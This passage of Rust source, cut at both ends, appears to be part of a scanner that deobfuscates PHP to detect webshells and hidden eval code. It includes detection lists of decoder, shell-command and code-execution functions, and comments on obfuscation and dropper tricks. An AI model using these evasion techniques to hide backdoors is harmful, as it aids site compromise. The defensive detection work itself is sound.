        if let Some(v) = scope.vars.get(name) {
            return Some(v);
        }
        let declared = self.scopes.len() > 1 && scope.globals.iter().any(|g| g == name);
        declared
            .then(|| self.scopes.first().and_then(|s| s.vars.get(name)))
            .flatten()
    }

    fn global(&self, name: &[u8]) -> Val {
        self.scopes
            .first()
            .and_then(|s| s.vars.get(name))
            .map_or(Val::Unknown, |v| self.copied(v))
    }

    /// The scope a write to `name` goes to.
    fn scope_for(&mut self, name: &[u8]) -> Option<&mut Scope> {
        let n = self.scopes.len();
        let declared = self
            .scopes
            .last()
            .is_some_and(|s| s.globals.iter().any(|g| g == name));
        let k = if declared { 0 } else { n.saturating_sub(1) };
        self.scopes.get_mut(k)
    }

    fn store(&mut self, target: &Target, val: Val) {
        let val = match &val {
            Val::Str(s) if s.len() > MAX_VALUE => Val::Unknown,
            _ => val,
        };
        match target {
            Target::Var(name) if name.as_slice() == GLOBALS => {}
            Target::Var(name) => {
                if let Some(s) = self.scope_for(name) {
                    s.vars.insert(name.clone(), val);
                }
            }
            Target::Append(name) => {
                // In place: a string built by a thousand `.=` is not copied a thousand times.
                if let Some(add) = val.as_bytes() {
                    if let Some(Val::Str(cur)) =
                        self.scope_for(name).and_then(|s| s.vars.get_mut(name))
                    {
                        if cur.len() + add.len() <= MAX_VALUE {
                            cur.extend_from_slice(&add);
                            return;
                        }
                    }
                }
                let cur = self.lookup(name);
                let joined = match (cur, &val) {
                    (Val::Str(a), Val::Str(_) | Val::Num(_)) => {
                        let mut a = a;
                        a.extend(val.as_bytes().unwrap_or_default());
                        Val::Str(a)
                    }
                    (c, v) => match c.taint().max(v.taint()) {
                        Some(t) => Val::Tainted(t),
                        None => Val::Unknown,
                    },
                };
                self.store(&Target::Var(name.clone()), joined);
            }
            Target::Element(name, key) => self.store_element(name, key.clone(), val),
        }
    }

    fn store_element(&mut self, name: &[u8], key: Option<Val>, val: Val) {
        let is_globals = name == GLOBALS || matches!(self.lookup(name), Val::Globals);
        if is_globals {
            if let Some(k) = key.as_ref().and_then(Val::as_bytes) {
                if let Some(s) = self.scopes.first_mut() {
                    s.vars.insert(k, val);
                }
            }
            return;
        }
        if let Some(Val::Arr(items)) = self.scope_for(name).and_then(|s| s.vars.get_mut(name)) {
            let key = key.unwrap_or_else(|| Val::Num(next_key(items)));
            if let Some(slot) = items.iter_mut().find(|(k, _)| same_key(k, &key)) {
                slot.1 = val;
            } else if items.len() < 100_000 {
                items.push((key, val));
            }
            return;
        }
        let mut items = match self.lookup(name) {
            Val::Arr(items) => items,
            Val::Unknown => Vec::new(),
            _ => return self.store(&Target::Var(name.to_vec()), Val::Unknown),
        };
        let key = key.unwrap_or_else(|| Val::Num(next_key(&items)));
        if let Some(slot) = items.iter_mut().find(|(k, _)| same_key(k, &key)) {
            slot.1 = val;
        } else if items.len() < 100_000 {
            items.push((key, val));
        }
        self.store(&Target::Var(name.to_vec()), Val::Arr(items));
    }
}

/// The key `$a[] = …` gives: one more than the largest numeric key.
fn next_key(items: &[(Val, Val)]) -> i64 {
    items
        .iter()
        .filter_map(|(k, _)| match k {
            Val::Num(n) => Some(*n + 1),
            _ => None,
        })
        .max()
        .unwrap_or(0)
}

/// Where an assignment writes.
enum Target {
    /// `$x = …`
    Var(Vec<u8>),
    /// `$x .= …`
    Append(Vec<u8>),
    /// `$x[k] = …`, `$x[] = …` (`None`: the next numeric key)
    Element(Vec<u8>, Option<Val>),
}

impl<'t, 'a> Resolver<'t, 'a> {
    /// An expression: operands joined by `.`, `^` and arithmetic.
    fn expr(&mut self, i: usize, depth: usize) -> Ev {
        let mut left = self.operand(i, depth);
        loop {
            let op = match self.tok(left.end) {
                Some(Tok::Punct(p))
                    if matches!(*p, b"." | b"^" | b"+" | b"-" | b"*" | b"%" | b"/") =>
                {
                    *p
                }
                Some(Tok::Punct(b"?")) if depth < MAX_DEPTH => {
                    let isset = ident_is(self.tok(i), b"isset");
                    return self.ternary(left, isset, depth);
                }
                _ => return left,
            };
            let right = self.operand(left.end + 1, depth);
            if right.end == left.end + 1 {
                return left;
            }
            let val = match (op, &mut left.val, &right.val) {
                // Appended in place, paid by size: a chain of a million parts is not copied
                // a million times.
                (b".", Val::Str(x), Val::Str(y)) if x.len() + y.len() <= MAX_VALUE => {
                    self.charge(y.len() / 64);
                    let mut joined = std::mem::take(x);
                    joined.extend_from_slice(y);
                    Val::Str(joined)
                }
                _ => binary(op, &left.val, &right.val),
            };
            let joined = val.is_known() && (left.val.is_known() || right.val.is_known());
            left = Ev {
                val,
                end: right.end,
                resolved: left.resolved || right.resolved || joined,
                through_call: left.through_call || right.through_call,
                disguise: left.disguise
                    || right.disguise
                    || (joined && left.val.is_known() && right.val.is_known()),
            };
        }
    }

    /// One operand: prefixes (`@`, casts), a primary, then indexes and calls.
    fn operand(&mut self, i: usize, depth: usize) -> Ev {
        if depth > MAX_DEPTH || self.fuel.get() == 0 {
            return Ev::unknown(i);
        }
        self.charge(1);
        if punct(self.tok(i), b"@") {
            return self.operand(i + 1, depth + 1);
        }
        if let Some((end, sanitizing)) = self.cast(i) {
            let inner = self.operand(end, depth + 1);
            return if sanitizing {
                Ev::unknown(inner.end)
            } else {
                inner
            };
        }
        let mut ev = match self.indexed_var(i, depth + 1) {
            Some(ev) => ev,
            None => self.primary(i, depth + 1),
        };
        loop {
            if ev.end == i {
                return ev;
            }
            match self.postfix(ev, depth + 1) {
                Ok(next) => ev = next,
                Err(done) => return done,
            }
        }
    }

    /// `$v[k]` / `$v{k}` at `i` on a variable holding a string or an array, read in place.
    fn indexed_var(&mut self, i: usize, depth: usize) -> Option<Ev> {
        let Some(Tok::Var(name)) = self.tok(i) else {
            return None;
        };
        let close: &[u8] = match self.tok(i + 1) {
            Some(Tok::Punct(b"[")) => b"]",
            Some(Tok::Punct(b"{")) => b"}",
            _ => return None,
        };
        if !matches!(self.var_ref(name), Some(Val::Str(_) | Val::Arr(_))) {
            return None;
        }
        let key = self.expr(i + 2, depth);
        if !punct(self.tok(key.end), close) {
            return None;
        }
        let base = self.var_ref(name)?;
        let is_str = matches!(base, Val::Str(_));
        let val = base.index(&key.val);
        let val = self.copied(&val);
        let known = val.is_known();
        Some(Ev {
            resolved: true,
            disguise: self.disguised_vars.contains(*name) || key.disguise || (is_str && known),
            through_call: key.through_call,
            ..Ev::new(val, key.end + 1, true)
        })
    }

    /// `(string)`, `(int)`…: where the operand starts, and whether the cast sanitizes.
    fn cast(&self, i: usize) -> Option<(usize, bool)> {
        if !punct(self.tok(i), b"(") || !punct(self.tok(i + 2), b")") {
            return None;
        }
        let Some(Tok::Ident(name)) = self.tok(i + 1) else {
            return None;
        };
        let n = name.to_ascii_lowercase();
        match n.as_slice() {
            b"string" | b"array" | b"object" | b"binary" => Some((i + 3, false)),
            b"int" | b"integer" | b"bool" | b"boolean" | b"float" | b"double" => {
                Some((i + 3, true))
            }
            _ => None,
        }
    }

    /// The value of a double-quoted string whose variables are all known, in the simple
    /// syntax only (`$a`, `$a[0]`, `$a[key]`); `None` for anything else (`{$…}`, `->`).
    fn interpolate(&self, body: &[u8]) -> Option<Val> {
        let mut out = Vec::new();
        let mut lit = Vec::new();
        let mut k = 0;
        let mut any_index = false;
        while let Some(&b) = body.get(k) {
            if b == b'\\' {
                lit.extend_from_slice(body.get(k..k + 2)?);
                k += 2;
                continue;
            }
            if b == b'{' && body.get(k + 1) == Some(&b'$') {
                return None;
            }
            if b != b'$' || !body.get(k + 1).copied().is_some_and(is_ident_start) {
                lit.push(b);
                k += 1;
                continue;
            }
            out.extend_from_slice(&decode::unescape_double(&lit));
            lit.clear();
            let end = scan_while(body, k + 1, is_ident);
            let mut val = self.lookup(body.get(k + 1..end)?);
            k = end;
            if body.get(k) == Some(&b'[') {
                let close = k + 1 + body.get(k + 1..)?.iter().position(|c| *c == b']')?;
                let key = body.get(k + 1..close)?;
                let key = match std::str::from_utf8(key).ok()?.parse::<i64>() {
                    Ok(n) => Val::Num(n),
                    Err(_) if key.iter().all(|c| is_ident(*c)) => Val::Str(key.to_vec()),
                    Err(_) => return None,
                };
                val = val.index(&key);
                any_index = true;
                k = close + 1;
            } else if body.get(k..k + 2) == Some(b"->") {
                return None;
            }
            out.extend_from_slice(&val.as_bytes()?);
            if out.len() > MAX_VALUE {
                return None;
            }
        }
        out.extend_from_slice(&decode::unescape_double(&lit));
        any_index.then_some(Val::Str(out))
    }

    fn primary(&mut self, i: usize, depth: usize) -> Ev {
        let lit = |val: Val| Ev::new(val, i + 1, false);
        match self.tok(i) {
            Some(Tok::Str(s)) => lit(Val::Str(s.to_vec())),
            Some(Tok::Num(n)) => lit(Val::Num(*n)),
            Some(Tok::Interp(vars, body)) => {
                if let Some(v) = self.interpolate(body) {
                    // `"$t[0]$t[3]…"`: a name spelled from a table's letters.
                    return Ev {
                        disguise: true,
                        ..Ev::new(v, i + 1, true)
                    };
                }
                let taint = vars.iter().filter_map(|v| self.lookup(v).taint()).max();
                Ev::new(
                    taint.map_or(Val::Unknown, Val::Tainted),
                    i + 1,
                    taint.is_some(),
                )
            }
            Some(Tok::Var(name)) => self.variable(name, i),
            Some(Tok::Punct(b"$")) => self.variable_variable(i, depth),
            Some(Tok::Punct(b"(")) => {
                let inner = self.expr(i + 1, depth);
                if punct(self.tok(inner.end), b")") {
                    Ev {
                        end: inner.end + 1,
                        ..inner
                    }
                } else {
                    Ev::unknown(inner.end)
                }
            }
            Some(Tok::Punct(b"[")) => self.array(i + 1, b"]", depth),
            Some(Tok::Ident(name))
                if name.eq_ignore_ascii_case(b"array") && punct(self.tok(i + 1), b"(") =>
            {
                self.array(i + 2, b")", depth)
            }
            Some(Tok::Ident(_)) if punct(self.tok(i + 1), b"::") => {
                match self.member(i + 2, depth) {
                    Ok(ev) | Err(ev) => ev,
                }
            }
            Some(Tok::Ident(name))
                if punct(self.tok(i + 1), b"(")
                    && punct(self.tok(i + 3), b")")
                    && [&b"strlen"[..], b"count"]
                        .iter()
                        .any(|f| name.eq_ignore_ascii_case(f)) =>
            {
                // The length of a variable's value, read in place (decoder loops ask at
                // every turn).
                let len = match self.tok(i + 2) {
                    Some(Tok::Var(v)) => match self.var_ref(v) {
                        Some(Val::Str(b)) => Some(b.len()),
                        Some(Val::Arr(items)) => Some(items.len()),
                        _ => None,
                    },
                    _ => None,
                };
                match len {
                    Some(n) => Ev::new(Val::Num(n as i64), i + 4, false),
                    None => self.call(name, i + 1, depth),
                }
            }
            Some(Tok::Ident(name)) if punct(self.tok(i + 1), b"(") => {
                // A constant holding a function's name, called: `define('E', 'eval'); E(…)`.
                let (name, via_const) = match self.consts.get(*name).and_then(Val::as_bytes) {
                    Some(v) if is_name(&v) => (v, true),
                    _ => (name.to_vec(), false),
                };
                let ev = self.call(&name, i + 1, depth);
                Ev {
                    resolved: ev.resolved || via_const,
                    disguise: ev.disguise || via_const,
                    ..ev
                }
            }
            Some(Tok::Ident(name)) => match self.consts.get(*name) {
                Some(v) => Ev::new(v.clone(), i + 1, true),
                None => Ev::unknown(i + 1),
            },
            _ => Ev::unknown(i),
        }
    }

    fn variable(&self, name: &[u8], i: usize) -> Ev {
        let disguise = self.disguised_vars.contains(name);
        let (val, resolved) = match name {
            GLOBALS => (Val::Globals, false),
            SERVER => (Val::Server, false),
            _ if source_var(name).is_some() => (self.lookup(name), false),
            _ => {
                let v = self.lookup(name);
                let known = v.is_known() || v.taint().is_some() || v == Val::Globals;
                (v, known)
            }
        };
        Ev {
            disguise: disguise && resolved,
            ..Ev::new(val, i + 1, resolved)
        }
    }

    /// `${'name'}`, `$$name`: a variable named by a value.
    fn variable_variable(&mut self, i: usize, depth: usize) -> Ev {
        let (name, end) = if punct(self.tok(i + 1), b"{") {
            let inner = self.expr(i + 2, depth);
            if !punct(self.tok(inner.end), b"}") {
                return Ev::unknown(inner.end);
            }
            (inner.val.as_bytes(), inner.end + 1)
        } else if let Some(Tok::Var(v)) = self.tok(i + 1) {
            (self.lookup(v).as_bytes(), i + 2)
        } else {
            return Ev::unknown(i + 1);
        };
        match name {
            Some(n) => Ev {
                resolved: true,
                ..self.variable(&n, end - 1)
            }
            .disguised(),
            None => Ev::unknown(end),
        }
    }
}

impl<'t, 'a> Resolver<'t, 'a> {
    /// `[k]`, `{k}` or `(args)` after an operand: `Ok` with the longer operand, `Err` with
    /// the operand as it was when nothing follows.
    fn postfix(&mut self, ev: Ev, depth: usize) -> Result<Ev, Ev> {
        // Every step is paid for: `(1)(2)(3)…` must not walk the file once per token.
        self.charge(1);
        if depth > MAX_DEPTH || self.fuel.get() == 0 {
            return Err(ev);
        }
        let close: &[u8] = match self.tok(ev.end) {
            Some(Tok::Punct(b"[")) => b"]",
            Some(Tok::Punct(b"{")) => b"}",
            Some(Tok::Punct(b"(")) => return self.call_value(ev, depth),
            Some(Tok::Punct(b"->" | b"?->")) => return self.member(ev.end + 1, depth),
            _ => return Err(ev),
        };
        let key = self.expr(ev.end + 1, depth);
        if !punct(self.tok(key.end), close) {
            return Err(ev);
        }
        let val = match (&ev.val, key.val.as_bytes()) {
            (Val::Globals, Some(k)) => self.global(&k),
            (Val::Server, Some(k)) if server_key_is_request(&k) => Val::Tainted(Taint::Request),
            (Val::Server, _) => Val::Unknown,
            (v, _) => v.index(&key.val),
        };
        let resolved = ev.resolved
            || key.resolved
            || (matches!(ev.val, Val::Globals) && (val.is_known() || val.taint().is_some()))
            || (matches!(ev.val, Val::Str(_)) && val.is_known());
        let disguise = ev.disguise
            || key.disguise
            || (matches!(ev.val, Val::Globals) && resolved)
            || (matches!(ev.val, Val::Str(_)) && val.is_known());
        Ok(Ev {
            val,
            end: key.end + 1,
            resolved,
            through_call: ev.through_call || key.through_call,
            disguise,
        })
    }

    /// What follows `->` or `::` at `i`: a call of one of the file's methods read for its
    /// value, any other call or property unknown.
    fn member(&mut self, i: usize, depth: usize) -> Result<Ev, Ev> {
        match self.tok(i) {
            Some(Tok::Ident(m)) if punct(self.tok(i + 1), b"(") => {
                let (args, end, _, _) = self.args(i + 1, depth);
                if let Some(ev) = self
                    .fns
                    .method(m)
                    .and_then(|d| self.user_call(d, &args, end))
                {
                    return Ok(ev);
                }
                Ok(Ev {
                    through_call: args.iter().any(|a| a.taint().is_some()),
                    ..Ev::unknown(end)
                })
            }
            Some(Tok::Ident(p)) if self.tainted_props.contains(*p) => Ok(Ev {
                disguise: true,
                ..Ev::new(Val::Tainted(Taint::Request), i + 1, true)
            }),
            Some(Tok::Ident(_) | Tok::Var(_)) => Ok(Ev::unknown(i + 1)),
            _ => Err(Ev::unknown(i)),
        }
    }

    /// A value called as a function: `$f(…)`, `$a['k'](…)`, `('ev'.'al')(…)`.
    fn call_value(&mut self, callee: Ev, depth: usize) -> Result<Ev, Ev> {
        match callee.val.as_bytes() {
            Some(name) if is_name(&name) => {
                let ev = self.call(&name, callee.end, depth);
                Ok(Ev {
                    resolved: true,
                    disguise: true,
                    ..ev
                })
            }
            _ => {
                let (_, end, _, _) = self.args(callee.end, depth);
                let taint = callee.val.taint();
                Ok(Ev {
                    val: taint.map_or(Val::Unknown, Val::Tainted),
                    end,
                    resolved: callee.resolved,
                    through_call: true,
                    disguise: callee.disguise,
                })
            }
        }
    }

    /// Arguments from the `(` at `i`: their values, the index after `)`, any resolved, any
    /// disguised.
    fn args(&mut self, i: usize, depth: usize) -> (Vec<Val>, usize, bool, bool) {
        let mut vals = Vec::new();
        let (mut resolved, mut disguised) = (false, false);
        let mut k = i + 1;
        if punct(self.tok(k), b")") {
            return (vals, k + 1, false, false);
        }
        loop {
            let a = self.expr(k, depth);
            resolved |= a.resolved;
            disguised |= a.disguise;
            vals.push(a.val);
            match self.tok(a.end) {
                Some(Tok::Punct(b",")) => k = a.end + 1,
                Some(Tok::Punct(b")")) => return (vals, a.end + 1, resolved, disguised),
                _ => {
                    // Not an expression we follow: the call is unknown from here (the main
                    // pass goes on inside its arguments).
                    vals.push(Val::Unknown);
                    return (vals, a.end.max(k + 1), resolved, disguised);
                }
            }
            if vals.len() > 64 {
                vals.push(Val::Unknown);
                return (vals, k, resolved, disguised);
            }
        }
    }

    /// A named function called with the arguments from the `(` at `i`.
    fn call(&mut self, name: &[u8], i: usize, depth: usize) -> Ev {
        let (args, end, args_resolved, args_disguised) = self.args(i, depth);
        if let Some(def) = self.fns.function(name) {
            if let Some(ev) = self.user_call(def, &args, end) {
                return ev;
            }
        }
        let code_arg = match name.to_ascii_lowercase().as_slice() {
            b"eval" | b"assert" => args.first(),
            b"create_function" => args.get(1),
            _ => None,
        };
        if let Some(Val::Str(code)) = code_arg {
            // Code decoded at run time, or assembled from disguised fragments and handed to
            // eval/assert, then run: hidden code. (`create_function` bodies are assembled from
            // plain strings by old plugins, so there only decoded code counts.)
            let eval_like = !name.eq_ignore_ascii_case(b"create_function");
            self.hidden_code |= args_disguised && (eval_like || self.decodes(i, end));
            let held: usize = self.nested.iter().map(Vec::len).sum();
            if held + code.len() <= MAX_VALUE && self.nested.len() < 16 {
                self.nested.push(code.clone());
            }
        }
        let mut through_call = false;
        let mut disguise = false;
        let (val, resolved) = if sanitizes(name) {
            // A number about a known value (`strlen('…')`) is known, and no disguise.
            match args
                .iter()
                .all(Val::is_known)
                .then(|| pure_call(name, &args))
            {
                Some(v @ Val::Num(_)) => (v, false),
                _ => (Val::Unknown, false),
            }
        } else if request_reader(name, &args) {
            // Headers through getenv, the raw body: request data by a side door.
            disguise = !matches!(name.to_ascii_lowercase().as_slice(), b"getallheaders");
            (Val::Tainted(Taint::Request), true)
        } else if remote_reader(name, &args) {
            (Val::Tainted(Taint::Remote), true)
        } else if name.eq_ignore_ascii_case(b"constant") {
            let v = args
                .first()
                .and_then(Val::as_bytes)
                .and_then(|c| self.consts.get(&c).cloned())
                .unwrap_or(Val::Unknown);
            let known = v.is_known();
            (v, known)
        } else if let Some(t) = args.iter().filter_map(Val::taint).max() {
            through_call = true;
            if transparent(name) {
                (Val::Tainted(t), args_resolved)
            } else {
                (Val::Unknown, false)
            }
        } else if args.iter().all(Val::is_known) {
            let v = pure_call(name, &args);
            let known = v.is_known();
            disguise = known;
            (v, known)
        } else {
            (Val::Unknown, false)
        };
        Ev {
            val,
            end,
            resolved,
            through_call,
            disguise,
        }
    }

    /// `array(…)` / `[…]` from `i` (after the opening bracket) up to `close`.
    fn array(&mut self, i: usize, close: &[u8], depth: usize) -> Ev {
        let mut items = Vec::new();
        let mut resolved = false;
        let mut k = i;
        let mut next_key = 0i64;
        loop {
            if punct(self.tok(k), close) {
                return Ev::new(Val::Arr(items), k + 1, resolved);
            }
            let first = self.expr(k, depth);
            if first.end == k || items.len() > 100_000 {
                return Ev::unknown(k);
            }
            resolved |= first.resolved;
            let (key, value, end) = if punct(self.tok(first.end), b"=>") {
                let v = self.expr(first.end + 1, depth);
                resolved |= v.resolved;
                (first.val, v.val, v.end)
            } else {
                (Val::Num(next_key), first.val, first.end)
            };
            if let Val::Num(n) = key {
                next_key = n + 1;
            }
            items.push((key, value));
            k = end;
            if punct(self.tok(k), b",") {
                k += 1;
            } else if !punct(self.tok(k), close) {
                return Ev::unknown(k);
            }
        }
    }
}

/// Functions that undo an encoding (what hides code from a reader of the file).
fn decoder(name: &[u8]) -> bool {
    let n = name.to_ascii_lowercase();
    matches!(
        n.as_slice(),
        b"base64_decode"
            | b"gzinflate"
            | b"gzuncompress"
            | b"gzdecode"
            | b"bzdecompress"
            | b"str_rot13"
            | b"strrev"
            | b"hex2bin"
            | b"pack"
            | b"convert_uudecode"
            | b"urldecode"
            | b"rawurldecode"
            | b"openssl_decrypt"
            | b"mcrypt_decrypt"
    )
}

/// Functions that run a shell command.
fn command_sink(name: &[u8]) -> bool {
    matches!(
        name.to_ascii_lowercase().as_slice(),
        b"system" | b"exec" | b"shell_exec" | b"passthru" | b"popen" | b"proc_open" | b"pcntl_exec"
    )
}

/// Calls that run their argument as code, or decode it for that.
fn code_sink(name: &[u8]) -> bool {
    let n = name.to_ascii_lowercase();
    matches!(
        n.as_slice(),
        b"eval"
            | b"assert"
            | b"create_function"
            | b"base64_decode"
            | b"gzinflate"
            | b"gzuncompress"
            | b"gzdecode"
            | b"str_rot13"
            | b"strrev"
            | b"system"
            | b"exec"
            | b"shell_exec"
            | b"passthru"
            | b"popen"
            | b"proc_open"
            | b"preg_replace"
    )
}

fn is_name(s: &[u8]) -> bool {
    !s.is_empty()
        && s.len() <= 64
        && s.first()
            .is_some_and(|b| b.is_ascii_alphabetic() || *b == b'_' || *b == b'\\')
        && s.iter()
            .all(|b| b.is_ascii_alphanumeric() || *b == b'_' || *b == b'\\')
}

/// `a . b`, `a ^ b` and arithmetic, on what is known.
fn binary(op: &[u8], a: &Val, b: &Val) -> Val {
    // Request data joined with something unknown is no longer only the visitor's words.
    if let Some(t) = a.taint().max(b.taint()) {
        // XOR with a key is how request data is decrypted: still the visitor's words.
        let other_known = op == b"^"
            || (a.taint().is_some() || a.is_known()) && (b.taint().is_some() || b.is_known());
        return if other_known {
            Val::Tainted(t)
        } else {
            Val::Unknown
        };
    }
    match (op, a, b) {
        (b".", _, _) => match (a.as_bytes(), b.as_bytes()) {
            (Some(mut x), Some(y)) if x.len() + y.len() <= MAX_VALUE => {
                x.extend(y);
                Val::Str(x)
            }
            _ => Val::Unknown,
        },
        (b"^", Val::Num(x), Val::Num(y)) => Val::Num(x ^ y),
        (b"^", Val::Str(x), Val::Str(y)) => Val::Str(xor(x, y)),
        (b"+", Val::Num(x), Val::Num(y)) => Val::Num(x.wrapping_add(*y)),
        (b"-", Val::Num(x), Val::Num(y)) => Val::Num(x.wrapping_sub(*y)),
        (b"*", Val::Num(x), Val::Num(y)) => Val::Num(x.wrapping_mul(*y)),
        (b"%", Val::Num(x), Val::Num(y)) if *y != 0 => Val::Num(x.wrapping_rem(*y)),
        // Only exact quotients: floats are not followed (an index `[(620/20)]` is exact).
        (b"/", Val::Num(x), Val::Num(y)) if *y != 0 && x.wrapping_rem(*y) == 0 => {
            Val::Num(x.wrapping_div(*y))
        }
        _ => Val::Unknown,
    }
}

/// Writes the resolved text.
struct Writer {
    out: Vec<u8>,
    /// Something was resolved that the source did not say plainly.
    changed: bool,
    /// Some of it was disguised (see [`Ev::disguise`]).
    disguised: bool,
    /// Request data or a remote fetch was written where a variable held it.
    tainted: bool,
    /// Keep only the statements in which something was resolved (the rules' second pass
    /// reads just those: the rest the first pass read already).
    only_changed: bool,
    stmt_start: usize,
    stmt_changed: bool,
    /// Writes nothing at all (the plain text when nobody will read it).
    off: bool,
}

impl Writer {
    /// `only_changed`: keep only the statements in which something was resolved; `off`:
    /// write nothing.
    fn new(only_changed: bool, off: bool, capacity: usize) -> Writer {
        Writer {
            out: Vec::with_capacity(if off { 0 } else { capacity }),
            changed: false,
            disguised: false,
            tainted: false,
            only_changed,
            stmt_start: 0,
            stmt_changed: false,
            off,
        }
    }

    fn mark_changed(&mut self) {
        self.changed = true;
        self.stmt_changed = true;
    }

    /// A statement ends: forget it unless something in it was resolved.
    fn end_statement(&mut self) {
        if self.only_changed {
            if self.stmt_changed {
                self.out.push(b'\n');
            } else {
                self.out.truncate(self.stmt_start);
            }
        }
        self.stmt_start = self.out.len();
        self.stmt_changed = false;
    }

    fn push(&mut self, bytes: &[u8]) {
        if self.off {
            return;
        }
        let joins =
            |b: u8| b.is_ascii_alphanumeric() || b == b'_' || b == b'$' || b == b'\'' || b == b'"';
        if self.out.last().copied().is_some_and(joins) && bytes.first().copied().is_some_and(joins)
        {
            self.out.push(b' ');
        }
        let room = MAX_OUTPUT.saturating_sub(self.out.len());
        self.out
            .extend_from_slice(bytes.get(..bytes.len().min(room)).unwrap_or_default());
    }

    fn literal(&mut self, s: &[u8]) {
        self.push(&decode::quote(s));
    }

    fn value(&mut self, v: &Val, callee: bool) {
        match v {
            Val::Str(s) if callee && is_name(s) => self.push(s),
            Val::Str(s) => self.literal(s),
            Val::Num(n) => self.push(n.to_string().as_bytes()),
            Val::Tainted(Taint::Request) => {
                self.tainted = true;
                self.push(b"$_POST['request']")
            }
            Val::Tainted(Taint::Remote) => {
                self.tainted = true;
                self.push(b"__REMOTE__")
            }
            Val::Arr(items) => {
                self.push(b"array(");
                for (k, (_, item)) in items.iter().enumerate().take(256) {
                    if k > 0 {
                        self.push(b",");
                    }
                    self.value(item, false);
                }
                self.push(b")");
            }
            Val::Globals => self.push(b"$GLOBALS"),
            Val::Server => self.push(b"$_SERVER"),
            Val::Unknown => self.push(b"null"),
        }
    }

    fn token(&mut self, t: &Tok, tainted: &dyn Fn(&[u8]) -> bool) {
        if self.off {
            return;
        }
        match t {
            Tok::Html(h) => self.push(h),
            Tok::Var(v) => {
                self.push(b"$");
                self.out.extend_from_slice(v);
            }
            Tok::Ident(n) => self.push(n),
            Tok::Str(s) => self.literal(s),
            Tok::Interp(vars, _) => {
                self.push(b"\"");
                for v in vars {
                    if tainted(v) {
                        self.mark_changed();
                        self.tainted = true;
                        self.out.extend_from_slice(b"{$_POST['request']}");
                    } else {
                        self.out.extend_from_slice(b"{$");
                        self.out.extend_from_slice(v);
                        self.out.push(b'}');
                    }
                }
                self.out.push(b'"');
            }
            Tok::Num(n) => self.push(n.to_string().as_bytes()),
            Tok::Backtick(b) => {
                self.push(b"`");
                self.out.extend_from_slice(b);
                self.out.push(b'`');
            }
            Tok::Punct(p) => self.push(p),
        }
    }
}

/// The file written back out with what can be known resolved (see the module docs), and
/// as written without comments; `None` for a file too large to read this way.
pub fn resolve(src: &[u8]) -> Option<Resolved> {
    resolve_with(src, true)
}

/// [`resolve`], with [`Resolved::plain`] left empty unless `plain` (it costs a copy of the
/// file, and only matters when a rule matched the source).
pub fn resolve_with(src: &[u8], plain: bool) -> Option<Resolved> {
    if src.len() > MAX_INPUT {
        return None;
    }
    let mut env = Env::default();
    Some(resolve_in(src, &mut env, 0, plain))
}

/// What the code has defined so far: variables by scope, constants.
#[derive(Default)]
struct Env {
    scopes: Vec<Scope>,
    consts: HashMap<Vec<u8>, Val>,
    disguised_vars: HashSet<Vec<u8>>,
}

/// Evaluation steps every file gets on top of its share by size.
const FUEL_BASE: usize = 100_000;

/// The evaluation steps a file of `bytes` in `tokens` may take: some a token, and some a byte
/// for decoder loops that turn once per byte of a payload held in one string.
fn fuel_for(bytes: usize, tokens: usize) -> usize {
    let by_size = tokens
        .saturating_mul(FUEL_PER_TOKEN)
        .saturating_add(bytes.saturating_mul(FUEL_PER_BYTE));
    by_size.saturating_add(FUEL_BASE)
}

/// See [`fuel_for`].
const FUEL_PER_BYTE: usize = 4;
/// See [`fuel_for`].
const FUEL_PER_TOKEN: usize = 24;

/// Nesting of code strings run by `eval` that are read as PHP in turn.
const MAX_NESTED: usize = 4;

fn resolve_in(src: &[u8], env: &mut Env, nesting: usize, want_plain: bool) -> Resolved {
    let toks = flow::linearize(lex(src));
    let mut scopes = std::mem::take(&mut env.scopes);
    if scopes.is_empty() {
        scopes.push(Scope::default());
    }
    let mut r = Resolver {
        toks: &toks,
        scopes,
        consts: std::mem::take(&mut env.consts),
        fuel: std::cell::Cell::new(fuel_for(src.len(), toks.len())),
        disguised_vars: std::mem::take(&mut env.disguised_vars),
        nested: Vec::new(),
        fns: functions::Functions::collect(&toks),
        hidden_code: false,
        hidden_command: false,
        decoded_vars: HashSet::default(),
        extracted: false,
        tainted_props: tainted_props(&toks),
    };
    let (mut w, mut plain) = (
        Writer::new(true, false, 1024),
        Writer::new(false, !want_plain, src.len() / 2),
    );
    r.run(0, toks.len(), Mode::File, &mut w, &mut plain);
    r.take_inlined(&mut w);
    let nested = std::mem::take(&mut r.nested);
    // The top level's variables and the constants go on into the code that `eval` runs.
    r.scopes.truncate(1);
    env.scopes = std::mem::take(&mut r.scopes);
    env.consts = std::mem::take(&mut r.consts);
    env.disguised_vars = std::mem::take(&mut r.disguised_vars);
    let mut hidden_inside = false;
    if nesting < MAX_NESTED {
        for code in nested {
            // `eval` runs its string as PHP code (no opening tag needed).
            let mut wrapped = b"<?php ".to_vec();
            wrapped.extend_from_slice(&code);
            let inner = resolve_in(&wrapped, env, nesting + 1, true);
            hidden_inside |= inner.hidden_code;
            w.out.extend_from_slice(b"\n");
            w.out.extend_from_slice(&inner.plain);
            w.out.extend_from_slice(b"\n");
            w.out.extend_from_slice(&inner.text);
            w.changed = true;
            w.disguised = true;
            if w.out.len() > MAX_OUTPUT {
                w.out.truncate(MAX_OUTPUT);
                break;
            }
        }
    }
    // Constants written where variables held them change nothing a rule looks for, unless
    // they were disguised or land in code (see `resolved_at`): only then is the text worth
    // the rules' second pass.
    let mut text = w.out;
    let threaded = w.changed && thread_file_handles(src, &mut text);
    Resolved {
        hidden_command: r.hidden_command,
        hidden_code: r.hidden_code || hidden_inside,
        changed: (w.changed && (w.disguised || w.tainted)) || threaded,
        text,
        plain: plain.out,
        disguised: w.disguised,
    }
}

/// Properties assigned a superglobal directly anywhere in the file (`$o->p = &$_POST['x']`).
fn tainted_props(toks: &[Tok]) -> HashSet<Vec<u8>> {
    let mut out = HashSet::default();
    for w in toks.windows(6) {
        let p = match w {
            [Tok::Var(_), Tok::Punct(b"->"), Tok::Ident(p), Tok::Punct(b"="), Tok::Var(v), _]
            | [Tok::Var(_), Tok::Punct(b"->"), Tok::Ident(p), Tok::Punct(b"="), Tok::Punct(b"&"), Tok::Var(v)]
                if source_var(v).is_some() =>
            {
                p
            }
            _ => continue,
        };
        if out.len() < 1000 {
            out.insert(p.to_vec());
        }
    }
    out
}

/// `$h = fopen('cache.php', 'w'); … fwrite($h, __REMOTE__);`: the resolved writes name the file
/// they write to (`fwrite('cache.php', __REMOTE__)`), so the rules on writing files see a
/// dropper that goes through a handle as they see one that calls `file_put_contents`.
